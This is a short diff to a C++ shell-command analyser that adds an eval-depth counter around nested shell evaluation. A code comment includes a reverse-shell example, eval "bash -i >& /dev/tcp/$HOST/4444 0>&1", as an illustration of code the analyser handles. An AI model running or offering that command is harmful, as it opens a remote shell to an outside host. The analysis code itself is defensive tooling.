@@ -1823,7 +1823,9 @@ CommandResult Runner::run(std::vector<Word> argv, const CommandIo& io, int depth
     // Code with unknown parts runs as bash -c runs it (eval "bash -i >& /dev/tcp/$HOST/4444 0>&1").
     if (!code.text.empty() && code.text != std::string(1, kUnknownPart)) {
       // What it prints is what this command prints (< <(eval "find \"\$ROOT\" -type f")).
+      if (kind == "eval") ++ctx_.in_eval;
       auto [printed, printed_ev] = ctx_.printed_by([&] { nested_shell(code); });
+      if (kind == "eval") --ctx_.in_eval;
       r.stdout_taint |= printed;
       if (r.stdout_ev < 0) r.stdout_ev = printed_ev;
     }
